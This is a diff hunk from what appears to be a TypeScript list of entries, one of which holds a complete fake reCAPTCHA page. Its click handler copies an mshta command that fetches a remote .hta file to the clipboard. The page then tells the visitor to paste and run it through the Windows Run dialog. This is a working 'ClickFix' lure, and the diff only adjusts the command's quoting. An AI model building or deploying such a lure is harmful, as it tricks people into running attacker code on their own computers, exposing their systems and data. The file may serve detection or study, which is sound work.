@@ -16,7 +16,7 @@ export const entries: Entry[] = [
 <div id="ov"><div class="rc"><div class="row"><div class="cb" id="cb" role="checkbox" aria-checked="false"></div><span>I'm not a robot</span><div class="logo"><img src="https://www.gstatic.com/recaptcha/api2/logo_48.png" width="32"><br>reCAPTCHA<br>Privacy - Terms</div></div>
 <div id="steps"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:12px;color:#666">This helps us verify you are a human. Verification ID: 481-223</p></div></div></div>
 <script>
-var cmd='mshta https://cdn-verify.cloudfiles-host.net/captcha/v.hta # \u2705 \'\'I am not a robot - reCAPTCHA Verification ID: 481223\'\'';
+var cmd="mshta https://cdn-verify.cloudfiles-host.net/captcha/v.hta # \\u2705 ''I am not a robot - reCAPTCHA Verification ID: 481223''";
 document.getElementById('cb').addEventListener('click',function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');document.body.removeChild(t);document.getElementById('steps').style.display='block';this.style.borderColor='#4a90e2'});
 </script>`,
   }),
